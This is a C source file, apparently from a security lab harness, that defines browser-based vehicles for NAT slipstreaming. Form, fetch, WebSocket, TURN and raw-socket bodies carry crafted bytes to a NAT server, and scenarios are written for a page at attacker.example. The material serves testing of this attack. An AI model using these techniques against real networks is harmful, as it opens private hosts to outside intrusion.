/* SPDX-License-Identifier: MIT */
#include "lab/nat_vehicle.h"

#include <assert.h>

#include "base/text.h"

#define WHOLE (1u << PQ_NAT_WHOLE)
#define SPLIT (1u << PQ_NAT_SPLIT)
#define PADDED (1u << PQ_NAT_PADDED)

static void write_line(struct pq_buf *out, const char *begin, uint16_t port, const char *end)
{
	pq_buf_add_str(out, begin);
	pq_buf_add_str(out, PQ_NAT_SERVER ":");
	pq_buf_add_u64(out, port);
	pq_buf_add_str(out, end);
}

static void write_bytes(struct pq_buf *out, const char *begin, struct pq_view bytes, const char *end)
{
	pq_buf_add_str(out, begin);
	pq_text_quote(bytes, out);
	pq_buf_add_str(out, end);
}

/* The name comes first in the body: it carries the command. */
static void form_text(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	write_line(out, "form POST http://", port, "/ text\n");
	write_bytes(out, "  field ", bytes, " \"\"\n");
}

static void form_multipart(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	write_line(out, "form POST http://", port, "/ multipart\n");
	write_bytes(out, "  field \"x\" ", bytes, "\n");
}

static void form_urlencoded(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	write_line(out, "form POST http://", port, "/ urlencoded\n");
	write_bytes(out, "  field ", bytes, " \"\"\n");
}

static void fetch(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	write_line(out, "fetch POST http://", port, "/\n  mode no-cors\n");
	write_bytes(out, "  binary ", bytes, "\n");
}

static void fetch_tls(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	write_line(out, "fetch POST https://", port, "/\n  mode no-cors\n");
	write_bytes(out, "  binary ", bytes, "\n");
}

static void websocket(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	write_line(out, "websocket ws://", port, "/\n");
	write_bytes(out, "  message binary ", bytes, "\n");
}

static void turn(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	write_line(out, "ice-server turn:", port, "?transport=tcp ");
	write_bytes(out, "", bytes, " \"credential\"\n");
}

static void stun(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	(void)bytes;
	write_line(out, "ice-server stun:", port, "\n");
}

static void raw_socket(uint16_t port, struct pq_view bytes, struct pq_buf *out)
{
	pq_buf_add_str(out, "socket " PQ_NAT_SERVER " ");
	pq_buf_add_u64(out, port);
	write_bytes(out, "\n  write ", bytes, "\n");
}

/*
 * What is learnt with a body whose length has four digits holds for another one that has as many: so much padding at least. The
 * server asks for segments that have room for an address which is longer than the one that stood there.
 */
#define BODY .room = 3000, .least = 1000, .segment = 1360

const struct pq_nat_vehicle pq_nat_vehicles[] = {
	{ .name = "form text/plain",
	  .scheme = PQ_SCHEME_HTTP,
	  .speaks = PQ_NAT_SPEAKS_HTTP,
	  .first = true,
	  BODY,
	  .shapes = WHOLE | SPLIT | PADDED,
	  .write = form_text },
	{ .name = "form multipart",
	  .scheme = PQ_SCHEME_HTTP,
	  .speaks = PQ_NAT_SPEAKS_HTTP,
	  BODY,
	  .shapes = WHOLE | SPLIT | PADDED,
	  .write = form_multipart },
	{ .name = "form urlencoded",
	  .scheme = PQ_SCHEME_HTTP,
	  .carries = PQ_NAT_ENCODED,
	  .speaks = PQ_NAT_SPEAKS_HTTP,
	  BODY,
	  .first = true,
	  .shapes = SPLIT,
	  .write = form_urlencoded },
	{ .name = "fetch",
	  .scheme = PQ_SCHEME_HTTP,
	  .speaks = PQ_NAT_SPEAKS_HTTP,
	  .binary = true,
	  .alone = true,
	  .first = true,
	  .repeats = true,
	  BODY,
	  .shapes = WHOLE | SPLIT | PADDED,
	  .write = fetch },
	{ .name = "fetch over TLS",
	  .scheme = PQ_SCHEME_HTTPS,
	  .carries = PQ_NAT_ENCRYPTED,
	  .speaks = PQ_NAT_SPEAKS_TLS,
	  .binary = true,
	  .alone = true,
	  .first = true,
	  .repeats = true,
	  BODY,
	  .shapes = SPLIT,
	  .write = fetch_tls },
	{ .name = "websocket",
	  .scheme = PQ_SCHEME_WS,
	  .carries = PQ_NAT_MASKED,
	  .speaks = PQ_NAT_SPEAKS_WEBSOCKET,
	  .binary = true,
	  .alone = true,
	  BODY,
	  .shapes = WHOLE | PADDED,
	  .write = websocket },
	{ .name = "websocket, mask 0",
	  .scheme = PQ_SCHEME_WS,
	  .speaks = PQ_NAT_SPEAKS_WEBSOCKET,
	  .binary = true,
	  .alone = true,
	  .zeros = true,
	  BODY,
	  .shapes = PADDED,
	  .write = websocket },
	{ .name = "turn over TCP",
	  .scheme = PQ_SCHEME_TURN_TCP,
	  .speaks = PQ_NAT_SPEAKS_TURN,
	  .room = 508,
	  .least = 2,
	  .segment = 300,
	  .shapes = WHOLE | PADDED,
	  .write = turn },
	{ .name = "stun",
	  .scheme = PQ_SCHEME_STUN_UDP,
	  .speaks = PQ_NAT_SPEAKS_PLAIN,
	  .binary = true,
	  .alone = true,
	  .udp = true,
	  .shapes = WHOLE,
	  .write = stun },
	{ .name = "raw socket",
	  .scheme = PQ_SCHEME_TCP,
	  .speaks = PQ_NAT_SPEAKS_PLAIN,
	  .binary = true,
	  .alone = true,
	  .first = true,
	  .bare = true,
	  .shapes = WHOLE,
	  .write = raw_socket },
};

static_assert(sizeof(pq_nat_vehicles) / sizeof(pq_nat_vehicles[0]) <= PQ_NAT_MAX_VEHICLES, "room for each way");

const size_t pq_nat_vehicle_count = sizeof(pq_nat_vehicles) / sizeof(pq_nat_vehicles[0]);

const struct pq_nat_vehicle *pq_nat_vehicle_by_name(const char *name)
{
	for (size_t i = 0; i < pq_nat_vehicle_count; i++)
		if (strcmp(pq_nat_vehicles[i].name, name) == 0)
			return &pq_nat_vehicles[i];
	return NULL;
}

bool pq_nat_carries_to(const struct pq_nat_vehicle *vehicle, const struct pq_nat_helper *helper)
{
	if (helper->unreachable || vehicle->udp != helper->udp)
		return false;
	if (vehicle->udp)
		return helper->datagram;
	/* A raw socket's page hears what is answered before it goes on. */
	return (vehicle->binary || helper->text) && (helper->message_count == 1 || vehicle->repeats || vehicle->bare);
}

bool pq_nat_is_found(const struct pq_nat_vehicle *vehicle, const struct pq_nat_helper *helper, enum pq_nat_shape shape)
{
	if (vehicle->carries != PQ_NAT_VERBATIM || (helper->looks == PQ_NAT_LOOKS_AT_WHOLE && !vehicle->alone))
		return false;
	if (vehicle->udp || vehicle->bare)
		return true;
	if (shape == PQ_NAT_SPLIT)
		return vehicle->first;
	return shape == PQ_NAT_PADDED;
}

const char *pq_nat_shape_name(enum pq_nat_shape shape)
{
	static const char *const names[] = { "whole", "split", "padded" };

	static_assert(sizeof(names) / sizeof(names[0]) == PQ_NAT_SHAPE_COUNT, "a name for each shape");
	return names[shape];
}

void pq_nat_scenario(const struct pq_nat_vehicle *vehicle, uint16_t port, const struct pq_view *messages, size_t count,
		     bool kept, struct pq_buf *out)
{
	pq_buf_add_str(out, "pratique-scenario 1\npage http://attacker.example/\n");
	if (kept)
		pq_buf_add_str(out, "keep-alive\n");
	vehicle->write(port, messages[0], out);
	for (size_t i = 1; i < count; i++) {
		if (vehicle->bare)
			write_bytes(out, "  write ", messages[i], "\n");
		else
			vehicle->write(port, messages[i], out);
	}
}
